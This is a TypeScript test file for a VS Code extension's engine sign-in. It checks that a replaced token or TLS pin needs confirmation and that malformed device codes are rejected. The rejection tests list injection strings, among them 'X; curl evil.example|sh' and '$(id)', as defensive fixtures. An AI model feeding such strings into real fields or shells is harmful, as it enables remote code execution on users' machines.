import assert from "node:assert/strict";
import { createClient } from "../../../extension/model/client/client.ts";
import type { Send } from "../../../extension/model/client/transport.ts";
import { beginDeviceSignIn } from "../../../extension/model/device-sign-in.ts";
import { createKnownEngines, type KnownEngine } from "../../../extension/model/known-engines.ts";
import { signInWithToken } from "../../../extension/model/sign-in.ts";
import { keeper, secretsOf } from "./engine.ts";
import { handTimers } from "./timers.ts";

const URL = "http://127.0.0.1:4680";
const me = { id: "prn_1", kind: "user" as const, name: "ada", tokenId: null, grants: [] };

describe("signing in to an engine that is known already", () => {
  /** @returns of whom it was asked */
  async function signIn(
    known: { tlsPin?: string; token?: string },
    given: { tlsPin?: string; token: string },
    mayReplace?: (known: KnownEngine) => Promise<void>,
  ) {
    const engines = createKnownEngines({ shared: keeper(), own: keeper(), secrets: secretsOf() });
    const pinOf = ({ tlsPin }: { tlsPin?: string }) => (tlsPin === undefined ? {} : { tlsPin });
    await engines.remember({ url: URL, as: "ada", ...pinOf(known) }, known.token ?? "");
    if (known.token === undefined) await engines.forgetToken(URL);
    const send: Send = () => assert.fail("greeting is all that is done");
    const parts = { engines, connect: () => createClient({ address: { url: URL }, token: "", send }), greet: async () => ({ version: "1", me }) };
    const outcome = await signInWithToken({ url: URL, ...pinOf(given) }, given.token, { ...parts, ...(mayReplace && { mayReplace }) }).catch(String);
    return { outcome, token: await engines.token(URL), pin: engines.chosen()?.tlsPin };
  }
  const refuse = () => Promise.reject(new Error("no"));

  for (const [what, known, given] of [
    ["token", { token: "old" }, { token: "new" }],
    ["key", { token: "old", tlsPin: "p" }, { token: "old", tlsPin: "q" }],
    ["way to prove itself", { token: "old", tlsPin: "p" }, { token: "old" }],
  ] as const)
    it(`asks before another ${what} takes the place of what is known, and else changes nothing`, async () => {
      assert.deepEqual(await signIn(known, given, refuse), { outcome: "Error: no", token: "old", pin: "tlsPin" in known ? "p" : undefined });
      assert.equal((await signIn(known, given, async () => {})).token, given.token);
    });

  it("asks nothing where nothing is replaced", async () => {
    assert.equal((await signIn({ token: "same" }, { token: "same" }, refuse)).token, "same");
    assert.equal((await signIn({}, { token: "new" }, refuse)).token, "new");
  });
});

describe("signing in with a code", () => {
  const begin = (userCode: string) => {
    const answer = { deviceCode: "d", userCode, expiresInSeconds: 600, intervalSeconds: 5 };
    const anonymous = createClient({ address: { url: URL }, token: "", send: async () => ({ status: 200, text: JSON.stringify(answer) }) });
    return beginDeviceSignIn(anonymous, "VS Code", handTimers(), new AbortController().signal);
  };

  it("shows the engine's code", async () => assert.equal((await begin("BCDF-GHJK")).userCode, "BCDF-GHJK"));

  for (const code of ["X; curl evil.example|sh", "BCDF-GHJK\n", "$(id)", "", "-x", "[x](command:y)", "BCDF GHJK"])
    it(`takes no code that a shell would read as something else: ${JSON.stringify(code)}`, async () => {
      await assert.rejects(begin(code), /isn't a Runwright engine/);
    });
});
